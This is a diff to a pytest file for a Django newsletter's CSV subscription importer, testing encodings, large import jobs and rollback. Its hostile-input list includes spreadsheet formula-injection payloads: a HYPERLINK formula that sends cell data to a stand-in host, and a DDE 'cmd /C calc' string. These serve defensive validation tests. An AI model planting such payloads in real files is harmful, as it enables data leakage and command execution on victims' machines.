@@ -15,6 +15,7 @@ from newsletter.models import (
     ConsentEventKind,
     RevocationChannel,
     Subscription,
+    SubscriptionImport,
     SubscriptionState,
 )
 from newsletter.services.consent import (
@@ -104,14 +105,34 @@ HOSTILE = [
         id="duplicate",
     ),
     pytest.param(
-        "email\nmüller@example.org\n".encode("latin-1"),
-        "nicht UTF-8-kodiert",
+        "email,source\na@example.org,web\nmüller@example.org,Köln\n".encode("latin-1"),
+        "nicht UTF-8-kodiert (Zeile 3, Byte 33; vermutlich Latin-1 oder Windows-1252)",
         id="latin-1",
     ),
     pytest.param(
-        "email\nmüller@example.org\n".encode("utf-16"),
-        "nicht UTF-8-kodiert",
-        id="utf-16",
+        "email\nmüller@example.org\n".encode("cp1252"),
+        "nicht UTF-8-kodiert (Zeile 2",
+        id="windows-1252",
+    ),
+    pytest.param(
+        # A byte-order mark, then an odd number of bytes: no UTF-16 at all.
+        b"\xff\xfe" + "email\nm@example.org\n".encode("utf-16-le") + b"x",
+        "gibt sich als UTF-16 aus",
+        id="utf-16-lying-bom",
+    ),
+    pytest.param(
+        (
+            HEADER
+            + "a@example.org,de,2025-03-01T09:30:00,198.51.100.4,"
+            + '"=HYPERLINK(""http://x.example/?""&A2;""Beleg"")",1\n'
+        ).encode(),
+        "Spalte „source“ beginnt wie eine Tabellenformel",
+        id="formula-in-source",
+    ),
+    pytest.param(
+        (HEADER + "@SUM(1+1)*cmd|' /C calc'!A0,de,,,,\n").encode(),
+        "Spalte „email“ beginnt wie eine Tabellenformel",
+        id="formula-as-address",
     ),
     pytest.param(
         (HEADER + "a@example.org,de,2025-03-01T09:30:00,198.51.100.4,,\n").encode(),
@@ -125,7 +146,7 @@ HOSTILE = [
     ),
     pytest.param(
         (HEADER + "a@example.org,de,2025-03-01T09:30:00,=1+1,web,1\n").encode(),
-        "„ip“ ist keine IP-Adresse.",
+        "Spalte „ip“ beginnt wie eine Tabellenformel",
         id="formula-as-ip",
     ),
     pytest.param(
@@ -134,11 +155,6 @@ HOSTILE = [
         id="no-email-column",
     ),
     pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00", "keine Textdatei", id="binary"),
-    pytest.param(
-        ("email\n" + "".join(f"x{i}@example.org\n" for i in range(IMPORT_MAX_ROWS + 1))).encode(),
-        "mehr als 2000 Zeilen",
-        id="too-many-rows",
-    ),
 ]
 
 
@@ -153,29 +169,90 @@ def test_hostile_files_import_nothing_and_say_why(manager_client, newsletter, co
     assert not ConsentEvent.objects.exists()
 
 
-def test_one_hundred_thousand_rows_are_refused_whole_with_a_clear_report(
-    manager_client, newsletter
-):
-    content = "email\n" + "".join(f"leser{i}@example.org\n" for i in range(100_000))
-    response = upload(manager_client, newsletter, content)
-    assert response.status_code == 400
-    assert "mehr als 2000 Zeilen" in response.content.decode()
+def test_utf_16_and_semicolons_from_a_german_spreadsheet_are_read(manager_client, newsletter):
+    content = "email;language\r\nmueller@example.org;de\r\nsmith@example.org;en\r\n"
+    response = upload(manager_client, newsletter, content.encode("utf-16"))
+    assert response.status_code == 200, response.content.decode()
+    assert response.context["report"].pending == 2
+    assert set(Subscription.objects.values_list("email", "language")) == {
+        ("mueller@example.org", "de"),
+        ("smith@example.org", "en"),
+    }
+
+
+def test_the_request_path_still_refuses_a_file_above_its_limit(newsletter):
+    content = "email\n" + "".join(f"x{i}@example.org\n" for i in range(IMPORT_MAX_ROWS + 1))
+    report = subscription_import(
+        newsletter=newsletter, file_name="gross.csv", data=content.encode(), actor=None
+    )
+    assert "mehr als 2000 Zeilen" in report.file_error
     assert not Subscription.objects.exists()
+
+
+def test_a_large_file_becomes_a_job_and_a_bad_row_at_its_end_refuses_it_whole(
+    manager_client, newsletter, django_capture_on_commit_callbacks
+):
+    # 100,000 rows (the job runs in this process here, eagerly; the worker test runs it in a
+    # real worker). One duplicate near the end: nothing of the 99,999 good rows is written.
+    rows = [f"leser{i}@example.org\n" for i in range(100_000)]
+    rows[99_998] = "LESER5@example.org\n"
+    with django_capture_on_commit_callbacks(execute=True):
+        response = upload(manager_client, newsletter, "email\n" + "".join(rows), name="gross.csv")
+    assert response.status_code == 302
+    job = SubscriptionImport.objects.get()
+    assert response["Location"] == reverse(
+        "admin:newsletter_subscription_import_job", args=[job.pk]
+    )
+    assert (job.state, job.lines, job.rows, job.error_count) == ("refused", 100_000, 100_000, 1)
+    assert job.errors == [[100_000, "Adresse doppelt (schon in Zeile 7)."]]
+    assert bytes(job.data) == b""  # the file is not kept once the job has ended
+    assert not Subscription.objects.exists() and not ConsentEvent.objects.exists()
+    page = manager_client.get(response["Location"]).content.decode()
+    assert "„gross.csv“ wurde nicht importiert" in page and "Adresse doppelt" in page
+    assert 'http-equiv="refresh"' not in page
+    assert "gross.csv" in manager_client.get(URL).content.decode()
+
+
+def test_a_job_is_run_once_however_often_its_message_arrives(newsletter):
+    from django.contrib.auth.models import User
+
+    from newsletter.services.consent import subscription_import_queue, subscription_import_run
+
+    user = User.objects.create_user("importeur")
+    content = "email\n" + "".join(f"j{i}@example.org\n" for i in range(3000))
+    job = subscription_import_queue(
+        newsletter=newsletter, file_name="j.csv", data=content.encode(), user=user
+    )
+    assert subscription_import_run(import_id=job.pk) == "imported"
+    assert subscription_import_run(import_id=job.pk) is None
+    job.refresh_from_db()
+    assert (job.state, job.pending, job.attempts) == ("imported", 3000, 1)
+    assert Subscription.objects.count() == 3000
+    assert ConsentEvent.objects.filter(kind="requested").count() == 3000
+
+
+def test_the_bulk_ledger_append_is_the_chain_event_by_event_appends_would_be(newsletter):
+    from newsletter.services.ledger import chain_verify
+
+    content = HEADER + "".join(
+        f"v{i}@example.org,de,2025-03-01T09:30:00,198.51.100.{i % 200},web,1\n" for i in range(50)
+    )
+    report = subscription_import(
+        newsletter=newsletter, file_name="v.csv", data=content.encode(), actor=None
+    )
+    assert report.confirmed == 50
+    assert chain_verify().ok
 
 
 def test_a_failure_midway_leaves_nothing_behind(newsletter, monkeypatch):
     from newsletter.services.consent import importing
 
-    calls = {"n": 0}
-    original = importing.event_record
-
     def failing(**kwargs):
-        calls["n"] += 1
-        if calls["n"] == 3:
-            raise RuntimeError("database gone")
-        return original(**kwargs)
+        # The subscriptions are in by now; the ledger write fails.
+        assert Subscription.objects.count() == 5
+        raise RuntimeError("database gone")
 
-    monkeypatch.setattr(importing, "event_record", failing)
+    monkeypatch.setattr(importing, "chain_append_many", failing)
     content = HEADER + "".join(
         f"l{i}@example.org,de,2025-03-01T09:30:00,198.51.100.4,web,1\n" for i in range(5)
     )
